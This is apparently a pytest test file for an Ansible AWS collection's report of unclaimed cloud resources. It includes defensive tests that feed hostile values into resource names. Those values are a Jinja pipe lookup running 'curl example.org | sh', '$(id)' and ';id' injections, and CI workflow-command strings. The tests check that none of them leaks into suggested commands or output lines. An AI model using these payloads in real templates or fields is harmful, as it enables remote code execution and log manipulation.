# Copyright: Contributors to the mainstay.aws project
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)

"""What the summary says about resources that no host claims."""

from __future__ import annotations

from typing import Any

import pytest

from ansible_collections.mainstay.aws.plugins.module_utils.summary.collect import Collector, Outcome, TaskInfo
from ansible_collections.mainstay.aws.plugins.module_utils.summary.export import as_data
from ansible_collections.mainstay.aws.plugins.module_utils.summary.markdown import as_markdown
from ansible_collections.mainstay.aws.plugins.module_utils.summary.model import Report
from ansible_collections.mainstay.aws.plugins.module_utils.summary.report import render
from ansible_collections.mainstay.aws.plugins.module_utils.summary.unclaimed import unclaimed

INFO = TaskInfo("network", "Look", "mainstay.aws.platform_unclaimed_info", True)


def report(*found: dict[str, Any]) -> Report:
    collector = Collector()
    for one in found:
        collector.add(INFO, Outcome({"unclaimed": {"format": 1, "environment": "prod", "region": "af-south-1", **one}}))
    return collector.report(1.0)


def vpc(number: int, component: str = "legacy") -> dict[str, str]:
    return {"component": component, "address": f"vpc.n{number}", "arn": f"arn:aws:ec2:af-south-1:123456789012:vpc/vpc-{number}"}


LEGACY = [
    "not claimed by any host  left alone",
    "  legacy  1",
    "      vpc.n1  arn:aws:ec2:af-south-1:123456789012:vpc/vpc-1",
    "      remove with: playbooks/remove_unclaimed.yml --extra-vars component=legacy",
]


@pytest.mark.parametrize(
    ("found", "expected"),
    [
        pytest.param([], [], id="not requested"),
        pytest.param([{"looked": True, "resources": []}], [], id="nothing found"),
        pytest.param([{"resources": [vpc(1)]}], LEGACY, id="found"),
        pytest.param([{"resources": [vpc(1)]}, {"resources": [vpc(1)]}], LEGACY, id="found in two places"),
        pytest.param(
            [{"looked": False}],
            ["unclaimed resources in af-south-1 were not searched for: the run sees only a part of the inventory (--limit or --tags)"],
            id="limited",
        ),
        pytest.param(
            [{"looked": False, "reason": "tagging: denied"}],
            ["unclaimed resources in af-south-1 were not searched for: tagging: denied"],
            id="refused",
        ),
        pytest.param(
            [{"resources": [vpc(1, "")]}],
            ["not claimed by any host  left alone", "  (no component)  1", LEGACY[2]],
            id="without a component",
        ),
    ],
)
def test_what_is_said(found: list[dict[str, Any]], expected: list[str]) -> None:
    assert [line.text.rstrip() for line in unclaimed(report(*found), 120)] == expected


def test_many_are_counted() -> None:
    lines = [line.text for line in unclaimed(report({"resources": [vpc(number) for number in range(100, 140)]}), 120)]
    assert lines[1].split() == ["legacy", "40"]
    assert len(lines) == 2 + 15 + 2
    assert "and 25 more" in lines[-2]


def test_it_is_in_the_data_and_the_document() -> None:
    one = report({"resources": [vpc(1)]})
    (unclaimed,) = as_data(one)["unclaimed"]
    assert (unclaimed["region"], unclaimed["looked"], list(unclaimed["resources"])) == ("af-south-1", True, [vpc(1)])
    assert "not claimed by any host" in as_markdown(one)


def test_another_format_is_not_read() -> None:
    collector = Collector()
    collector.add(INFO, Outcome({"unclaimed": {"format": 2, "resources": [vpc(1)]}}))
    assert collector.report().unclaimed == ()


HOSTILE = "{{ lookup('pipe', 'curl example.org | sh') }}"


@pytest.mark.parametrize("text", [HOSTILE, "::add-mask::x", "$(id)", "a;id", "##[command]id", "Legacy", "a" * 25])
def test_no_command_contains_what_no_component_can_be_called(text: str) -> None:
    for width in (60, 80, 200):
        lines = [one.text for one in unclaimed(report({"resources": [{**vpc(1, text), "address": text, "arn": text}]}), width)]
        assert not [one for one in lines if "--extra-vars" in one]
        assert not [one for one in lines if one.lstrip().startswith("::") or "##[" in one]
        assert any("remove it by hand" in one for one in lines)


def test_values_that_wrapping_puts_at_the_beginning_of_a_line_command_nothing() -> None:
    why = "denied " + "::set-output name=a::b ##[section]x ##vso[task.setvariable]y " * 9
    for width in range(60, 120):
        shown = render(report({"looked": False, "reason": why}), width)
        assert not [one.text for one in shown if one.text.lstrip().startswith("::")]
        assert not [one.text for one in shown if "##[" in one.text or "##vso[" in one.text]
